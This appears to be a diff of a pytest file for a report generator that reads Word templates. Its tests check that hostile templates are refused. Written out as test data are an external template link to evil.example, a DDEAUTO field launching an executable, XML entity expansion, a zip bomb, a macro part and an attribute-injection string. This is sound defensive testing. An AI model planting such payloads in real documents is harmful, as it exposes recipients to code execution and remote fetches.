@@ -20,7 +20,7 @@ from assess.model.result import Result
 from assess.model.text import Text
 from assess.report.build import make_report
 from assess.report.document import strip_controls
-from assess.report.formats.docx_template import read_house
+from assess.report.formats.docx_template import read_template
 from assess.report.formats.registry import render
 from tests.reports.factories import DAY, EXAMPLES, advised, judged
 from tests.reports.figures import plain
@@ -202,6 +202,7 @@ def house(tmp_path: Path, change: Callable[[dict[str, bytes]], None] = lambda pa
     style.font.name, style.font.size = "Courier New", Pt(11)
     document.styles["Heading 1"].font.size = Pt(20)
     section = document.sections[0]
+    section.header.paragraphs[0].text = "Bureau of Clusters"
     section.page_width, section.page_height, section.left_margin = Mm(200), Mm(280), Mm(33)
     document.add_paragraph("{{ 7*7 }} sample text of the bureau")
     first = io.BytesIO()
@@ -233,6 +234,10 @@ EXTERNAL = (
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
 )
+FETCHING = (
+    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
+    b'<w:r><w:instrText>AUTO c:\\\\x.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>'
+)
 LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:styles xmlns:w="x">&b;</w:styles>'
 ATTACKS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
     "macros": (_add("word/vbaProject.bin", b"x"), "E613"),
@@ -243,6 +248,15 @@ ATTACKS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
     "bomb": (_add("word/big.xml", b" " * 50_000_000), "E612"),
     "no styles": (lambda parts: parts.pop("word/styles.xml") and None, "E612"),
     "no types": (lambda parts: parts.pop("[Content_Types].xml") and None, "E612"),
+    "an entity in a header": (
+        _replace("word/header1.xml", b"<w:hdr", b'<!DOCTYPE x [<!ENTITY a "ha">]><w:hdr'),
+        "E612",
+    ),
+    "a field that fetches": (_replace("word/header1.xml", b"<w:r>", FETCHING), "E614"),
+    "deep": (_replace("word/header1.xml", b"<w:r>", b"<w:p>" * 5000 + b"</w:p>" * 5000 + b"<w:r>"), "E612"),
+    "no page": (_replace("word/document.xml", b"w:pgSz", b"w:pgXX"), "E612"),
+    "a page of no width": (_replace("word/document.xml", b'w:w="11339"', b'w:w="99"'), "E612"),
+    "a page of no number": (_replace("word/document.xml", b'w:w="11339"', b'w:w="wide"'), "E612"),
     "broken xml": (lambda parts: parts.update({"word/document.xml": b"<w:"}), "E612"),
 }
 
@@ -254,7 +268,7 @@ def test_a_template_that_attacks_is_refused(
     path = house(tmp_path, change)
 
     with pytest.raises(InputError) as refused:
-        read_house(path)
+        read_template(path)
 
     assert refused.value.problems[0].code == code
     out = tmp_path / "r.docx"
@@ -268,36 +282,76 @@ def test_a_file_that_is_no_template_is_refused(tmp_path: Path) -> None:
     path.write_bytes(b"not a zip")
 
     with pytest.raises(InputError) as refused:
-        read_house(path)
+        read_template(path)
 
     assert refused.value.problems[0].code == "E612"
 
 
-def test_a_house_lends_its_styles_and_its_page_and_nothing_else(tmp_path: Path) -> None:
-    own = read_house(house(tmp_path))
+def written_into(template: Path) -> dict[str, bytes]:
+    """Parts of a report in a bureau's template, once python-docx has read it."""
+    import docx
 
-    raw = render(make_report([judged("tongbai-peanut")], "zh", DAY), ".docx", own)
-
+    raw = render(make_report([judged("tongbai-peanut")], "zh", DAY), ".docx", read_template(template))
+    assert "sample text" not in word_text(raw)
+    docx.Document(io.BytesIO(raw))
     with zipfile.ZipFile(io.BytesIO(raw)) as package:
-        styles = etree.fromstring(package.read("word/styles.xml"))
-        document = etree.fromstring(package.read("word/document.xml"))
-    body = next(s for s in styles.iter(f"{W}style") if s.find(f"{W}name").get(f"{W}val") == "Body Text")
+        return {name: package.read(name) for name in package.namelist()}
+
+
+def style_named(parts: dict[str, bytes], name: str) -> etree._Element:
+    """The one style of a name."""
+    styles = etree.fromstring(parts["word/styles.xml"])
+    (found,) = [s for s in styles.iter(f"{W}style") if s.find(f"{W}name").get(f"{W}val") == name]
+    return found
+
+
+def test_a_report_is_written_into_the_template_of_a_bureau(tmp_path: Path) -> None:
+    """Its styles, page and header; our numbering of headings, and the styles that it lacks."""
+    parts = written_into(house(tmp_path, _add("word/media/old.png", b"of the old text")))
+
+    document = etree.fromstring(parts["word/document.xml"])
+    body = style_named(parts, "Body Text")
     assert body.find(f"{W}rPr/{W}rFonts").get(f"{W}ascii") == "Courier New"
     assert body.find(f"{W}rPr/{W}sz").get(f"{W}val") == "22"
-    heading = next(s for s in styles.iter(f"{W}style") if s.find(f"{W}name").get(f"{W}val") == "heading 1")
-    assert heading.find(f"{W}pPr/{W}numPr") is not None
-    size = next(document.iter(f"{W}pgSz"))
-    assert round(int(size.get(f"{W}w")) / 56.7) == 200
-    assert "sample text" not in word_text(raw)
-    assert b"heme" not in etree.tostring(styles)
+    assert style_named(parts, "heading 1").find(f"{W}pPr/{W}numPr/{W}ilvl").get(f"{W}val") == "0"
+    assert style_named(parts, "Table Head").find(f"{W}rPr/{W}sz").get(f"{W}val") == "21"
+    known = {s.get(f"{W}styleId") for s in etree.fromstring(parts["word/styles.xml"]).iter(f"{W}style")}
+    assert {s.get(f"{W}val") for s in document.iter(f"{W}pStyle")} <= known
+    pages = [(int(s.get(f"{W}w")), int(s.get(f"{W}h"))) for s in document.iter(f"{W}pgSz")]
+    assert {(round(w / 56.7), round(h / 56.7)) for w, h in pages} == {(200, 280), (280, 200)}
+    assert "Bureau of Clusters" in parts["word/header1.xml"].decode()
+    assert len(list(document.iter(f"{W}headerReference"))) == len(pages)
+    assert "word/media/old.png" not in parts
+
+
+def test_styles_are_known_by_their_names_whatever_their_ids(tmp_path: Path) -> None:
+    """A Chinese Word calls the style of first headings `1`."""
+    parts = written_into(house(tmp_path, _replace("word/styles.xml", b'w:styleId="Heading1"', b'w:styleId="1"')))
+
+    used = {s.get(f"{W}val") for s in etree.fromstring(parts["word/document.xml"]).iter(f"{W}pStyle")}
+    counted = {s.get(f"{W}val") for s in etree.fromstring(parts["word/numbering.xml"]).iter(f"{W}pStyle")}
+    assert "1" in used & counted
+    assert "Heading1" not in used | counted
+
+
+def test_a_template_without_numbering_is_given_ours(tmp_path: Path) -> None:
+    def without(parts: dict[str, bytes]) -> None:
+        del parts["word/numbering.xml"]
+        relations, count = re.subn(rb"<Relationship [^>]*numbering[^>]*/>", b"", parts["word/_rels/document.xml.rels"])
+        assert count == 1
+        parts["word/_rels/document.xml.rels"] = relations
+
+    parts = written_into(house(tmp_path, without))
+
+    assert b"numbering.xml" in parts["word/_rels/document.xml.rels"]
+    assert b"/word/numbering.xml" in parts["[Content_Types].xml"]
+    assert b"w:abstractNum" in parts["word/numbering.xml"]
 
 
 def test_attributes_of_a_style_cannot_break_out(tmp_path: Path) -> None:
-    """What is copied is written anew from plain words; a quote, a bracket or an entity is none."""
+    """What was an attribute stays one; a quote, a bracket or an entity does not end it."""
     attack = _replace("word/styles.xml", b"<w:sz w:val=", b'<w:sz w:evil="&quot;/&gt;&lt;w:instrText&gt;" w:val=')
-    own = read_house(house(tmp_path, attack))
 
-    raw = render(make_report([judged("tongbai-peanut")], "zh", DAY), ".docx", own)
+    parts = written_into(house(tmp_path, attack))
 
-    with zipfile.ZipFile(io.BytesIO(raw)) as package:
-        assert b"instrText" not in package.read("word/styles.xml")
+    assert not list(etree.fromstring(parts["word/styles.xml"]).iter(f"{W}instrText"))
